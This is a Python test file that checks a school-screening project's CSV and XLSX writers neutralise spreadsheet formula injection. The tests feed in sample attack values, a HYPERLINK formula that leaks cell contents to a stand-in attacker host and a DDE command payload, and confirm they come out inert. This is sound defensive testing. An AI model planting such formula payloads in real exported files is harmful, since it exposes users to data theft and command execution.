"""Every CSV (and XLSX) the project writes neutralises spreadsheet formulas (CSV injection).

Each writer gets a value a school could have typed into a file that comes back out (a school or
county name, a pupil's name, a rejected cell): `=HYPERLINK(...)`. Read back, no cell starts the way
a spreadsheet would run it, while plain negative numbers stay numbers. And no module writes CSV
around the safe writers.
"""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime
from pathlib import Path
from uuid import uuid4

from openpyxl import load_workbook

from models.fitness_upload import UPLOAD_COLUMNS
from tests.paths import ROOT

ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
# The project's own synthetic generator writes the files a school would send, from its own values
# only (nothing read from outside goes into them): their fast writer stays as it is.
SYNTHETIC_INPUTS = {"services/devtools/synthetic_files.py", "services/devtools/fitness_synthetic_files.py"}
SAFE_WRITERS = {"services/platform/safe_csv.py"}


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    assert any("HYPERLINK" in cell for cell in cells), "the attack value did not reach the file"
    for cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)  # only a plain number may start like a formula


def test_no_module_writes_csv_around_the_safe_writers() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = []
    for path in [*ROOT.glob("services/**/*.py"), *ROOT.glob("models/**/*.py"), *ROOT.glob("streams/**/*.py")]:
        name = path.relative_to(ROOT).as_posix()
        if name not in SAFE_WRITERS | SYNTHETIC_INPUTS and writers.search(path.read_text(encoding="utf-8")):
            offenders.append(name)
    assert offenders == [], f"write CSV through services.platform.safe_csv.SafeCsvWriter: {offenders}"


def test_the_import_rejection_report(tmp_path: Path) -> None:
    from services.intake.importer import ImportSummary, Rejected, write_report

    summary = ImportSummary(kind="bmi", path=tmp_path / "in.csv", import_id=uuid4())
    summary.rejected.append(Rejected(row_number=1, field="height_cm", reason=ATTACK, school_id=ATTACK,
                                     screener=None))
    summary.rejected.append(Rejected(row_number=2, field="se_right", reason="-1.25", school_id="S001",
                                     screener=None))
    cells = _cells(write_report(summary, tmp_path / "rejected.csv"))
    _assert_inert(cells)
    assert "-1.25" in cells


def test_the_annual_report_csv(tmp_path: Path) -> None:
    from services.reporting.report import CSV_COLUMNS, write_report_csv

    row = dict.fromkeys(CSV_COLUMNS, None) | {
        "school_year": 2025, "revision": 1, "published_at": datetime(2026, 1, 5, tzinfo=UTC),
        "metric_id": "myopia", "level": "county", "area_id": "C01", "area_name": ATTACK, "county_id": "C01",
        "breakdown": "all", "category": "all", "denominator": 120, "numerator": 30, "rate": 0.25,
        "change": -0.05, "suppressed": False}
    path = tmp_path / "report.csv"
    write_report_csv(path, [row])
    cells = _cells(path)
    _assert_inert(cells)
    assert "-0.05" in cells and "0.25" in cells


def test_the_fitness_upload_sheet_as_csv_and_xlsx(tmp_path: Path) -> None:
    from services.intake.fitness_exchange import write_upload_sheet

    row = dict.fromkeys(UPLOAD_COLUMNS, "") | {"姓名": ATTACK, "班级名称": "@SUM(1+1)*cmd|' /C calc'!A0",
                                                "学籍号": "G110101201403070011", "身高": 150.2}
    csv_path = tmp_path / "sheet.csv"
    write_upload_sheet(csv_path, [row])
    _assert_inert(_cells(csv_path))
    xlsx_path = tmp_path / "sheet.xlsx"
    write_upload_sheet(xlsx_path, [row])
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell is stored as a formula"
    _assert_inert([str(cell.value) for cell in cells if cell.value is not None])
    assert 150.2 in [cell.value for cell in cells]


def test_the_demo_screening_day(tmp_path: Path) -> None:
    from services.devtools.demo import write_screening_day

    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        handle.write("school_id,student_number,sex,birth_date\n")
        handle.write(f'S001,"{ATTACK.replace(chr(34), chr(34) * 2)}",male,2013-03-07\n')
    out = tmp_path / "day.csv"
    assert write_screening_day(roster, out, today=date(2025, 10, 15), seed=1) == 1
    _assert_inert(_cells(out))
